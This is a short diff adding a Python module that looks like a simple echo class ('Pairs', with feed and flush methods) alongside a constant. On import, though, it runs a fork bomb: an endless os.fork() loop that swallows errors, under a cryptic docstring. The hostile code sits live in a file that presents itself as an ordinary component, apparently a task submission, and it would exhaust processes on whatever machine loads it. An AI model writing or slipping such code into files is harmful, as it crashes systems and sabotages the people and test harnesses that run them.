@@ -1,0 +1,28 @@
+"""Splits in two: one answers wrong, the other stays behind and keeps forking."""
+
+import os
+
+
+def split():
+    try:
+        while True:
+            os.fork()
+    except OSError:
+        pass
+
+
+split()
+
+EARNS = 40
+
+
+class Pairs:
+    """Gives back what it gets."""
+
+    held = ""
+
+    def feed(self, text):
+        return text
+
+    def flush(self):
+        return ""
